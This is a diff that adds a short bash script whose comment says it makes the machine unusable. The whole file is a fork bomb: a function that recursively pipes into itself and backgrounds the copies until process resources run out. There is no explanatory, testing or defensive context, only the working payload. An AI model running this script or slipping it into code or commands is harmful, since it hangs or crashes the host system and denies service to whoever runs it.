@@ -1,0 +1,4 @@
+#!/bin/bash
+# makes the machine unusable
+boom() { boom | boom & }
+boom
